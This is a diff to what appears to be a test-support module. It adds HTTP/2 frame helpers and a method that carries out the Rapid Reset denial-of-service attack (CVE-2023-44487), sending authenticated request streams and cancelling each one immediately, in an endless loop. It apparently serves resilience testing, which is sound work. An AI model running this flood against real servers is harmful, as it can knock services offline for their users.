@@ -16,6 +16,18 @@ from tests.support.intake import empty_spans
 #: Connections that one of these holds; the system gives a process no more descriptors than some thousand.
 _HELD = 8000
 _HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
+# The type of a frame and its flags: a whole header without a body's end, and a stream's.
+_HEADERS, _RESET = b"\x01\x04", b"\x03\0"
+
+
+def _frame(kind: bytes, stream: int, content: bytes) -> bytes:
+    """Of HTTP/2: https://www.rfc-editor.org/rfc/rfc9113#name-frame-format."""
+    return len(content).to_bytes(3, "big") + kind + stream.to_bytes(4, "big") + content
+
+
+def _text(text: str) -> bytes:
+    """A text of a header, of fewer than 127 bytes."""
+    return bytes([len(text)]) + text.encode()
 
 
 class Flood:
@@ -51,8 +63,22 @@ class Flood:
             secured = self._secure(self._h2)
             secured.sendall(_HELLO)
             for stream in range(1, 2001, 2):
+                secured.sendall(_frame(_HEADERS, stream, block))
+            secured.close()
+
+    def resets(self) -> None:
+        """Requests with a token that are taken back at once (CVE-2023-44487)."""
+        # As above, but for the path, 4, and authorization, 23: literal, in no table (RFC 7541, 6.2.2).
+        block = b"\x83\x87\x04" + _text("/v1/traces") + b"\x0f\x08" + _text(f"Bearer {self._token}")
+        while True:
+            secured = self._secure(self._h2)
+            secured.sendall(_HELLO)
+            for first in range(1, 100_001, 200):
+                streams = range(first, first + 200, 2)
                 secured.sendall(
-                    len(block).to_bytes(3, "big") + b"\x01\x04" + stream.to_bytes(4, "big") + block
+                    b"".join(
+                        _frame(_HEADERS, one, block) + _frame(_RESET, one, b"\0\0\0\x08") for one in streams
+                    )
                 )
             secured.close()
 
